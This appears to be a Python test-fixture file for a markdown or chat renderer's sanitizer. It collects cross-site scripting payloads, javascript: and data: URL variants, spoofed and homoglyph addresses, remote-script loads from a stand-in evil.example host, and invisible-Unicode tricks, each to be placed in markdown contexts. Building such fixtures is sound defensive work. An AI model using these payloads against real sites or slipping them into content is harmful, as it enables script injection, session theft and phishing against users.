"""What attackers write: markup, addresses, entities, encodings, tricks on parsers and on eyes."""

MARKUP = r"""
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
</p></div></li><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" /
"><img src=x onerror=alert(1)>
'><svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x"/>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><svg onload=alert(1)></annotation-xml></math>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<embed src="javascript:alert(1)">
<a href="javascript:alert(1)">x</a>
<a href="https://a.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>
<body onload=alert(1)>
<base href="https://evil.example/">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<link rel=stylesheet href=//evil.example/x.css>
<style>@import "//evil.example/x.css"; * { background: url(javascript:alert(1)) }</style>
<form action="https://evil.example"><input name=q autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>
<details open ontoggle=alert(1)><summary>x</summary></details>
<video><source onerror="alert(1)"></video>
<marquee onstart=alert(1)>x</marquee>
<template><script>alert(1)</script></template>
</template></noscript></textarea></title></style></script><b onclick=alert(1)>x</b>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<!--<img src="--><img src=x onerror=alert(1)//">
<!--><script>alert(1)</script-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><?php echo 1 ?>
<!DOCTYPE html [<!ENTITY x "y">]>
<x-y is="z" slot=a part=b onpointerenter=alert(1)>x</x-y>
<div id="app" class="message" data-part="body" data-seq="1">x</div>
<p style="color:red" dir="rtl" hidden>x</p>
<<script>script>alert(1)<</script>/script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img/src/onerror=alert(1)//
<a/href="j&Tab;a&NewLine;vascript&colon;alert(1)">x</a>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#x3c;/script&#x3E;
&#0000060script&#x000003Ealert(1)
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
{{7*7}} {% include "layouts/head.html" %} ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}
" onmouseover="alert(1)" x="
' autofocus onfocus='alert(1)
` onmouseover=alert(1) x=`
x" data-mention="y" class="code" href="javascript:alert(1)
"""
ADDRESSES = r"""
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript://https://a.example/%0aalert(1)
javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
java&#x0A;script:alert(1)
java&Tab;script:alert(1)
javascript&colon;alert(1)
javascript&#58;alert(1)
&#106;avascript:alert(1)
%6Aavascript:alert(1)
javascript%3Aalert(1)
\j\a\v\a\s\c\r\i\p\t:alert(1)
feed:javascript:alert(1)
view-source:javascript:alert(1)
jar:https://a.example!/x
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml,<svg onload=alert(1)>
DATA:image/png;base64,xxxx
vbscript:msgbox(1)
VbScRiPt&colon;msgbox(1)
file:///etc/passwd
blob:https://a.example/1
about:blank
intent://x#Intent;scheme=http;end
//evil.example
\\evil.example\share
https:evil.example
https:\\evil.example
https://a.example"onmouseover="alert(1)
https://a.example/"><script>alert(1)</script>
https://a.example/'onclick='alert(1)
https://a.example/<svg/onload=alert(1)>
https://a.example/`onclick=alert(1)`
https://a.example@evil.example/
https://a.example:javascript@evil.example/
https://evil.example\@a.example/
https://a.example%00.evil.example/
https://a.example%0d%0aSet-Cookie:x
http://[::1"onclick=alert(1)]/
https://аpple.com/ https://xn--pple-43d.com/
www.a.example"><img/src/onerror=alert(1)>
a@b.example"onclick="alert(1)
mailto:a@b.example?body=<script>alert(1)</script>
mailto:javascript:alert(1)@b.example
"""
# With what no editor shows, and what some parsers drop, fold or take for a space or a line's end.
UNSEEN = [
    "java\tscript:alert(1)",
    "java\x00script:alert(1)",
    "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "java\u00adscript:alert(1)",
    "java\u200bscript:alert(1)",
    "javascript\uff1aalert(1)",
    "\ufeffjavascript:alert(1)",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img\x0csrc=x\x0bonerror=alert(1)>",
    "<img src=x\u2028onerror=alert(1)>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<b>\u2066x</b>\u2069",
    "https://a.example/\u202egpj.exe",
    "https://a.example\u2028\u2029/<b>",
    "\x1b[31m\x9b<b>\x7f",
    "\ufdd0\uffff\U0010ffff<\u0338script>",
    "e\u0301" * 9 + "\u0489" * 40 + "<b>",
    "<a href='\ud83d'>".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
]
HOSTILE = [line for line in (MARKUP + ADDRESSES).splitlines() if line] + UNSEEN
# Where somebody may write it.
PLACES = [
    "{}",
    "a {} b\n{}\n\n{}",
    "[{}](https://a.example/)",
    "[x]({})",
    "[x](<{}>)",
    "[x](https://a.example/ '{}')",
    "![{}]({})",
    "<{}>",
    "<https://a.example/{}>",
    "https://a.example/{}",
    "`{}`",
    "```{}\n{}\n```",
    "```html\n{}\n```",
    "> {}\n> > {}",
    "- {}\n  1. {}",
    "**{}** _{}_ ~~{}~~",
    "@{} :{}: @bob{}",
    "/me {}",
    "\\{}",
]
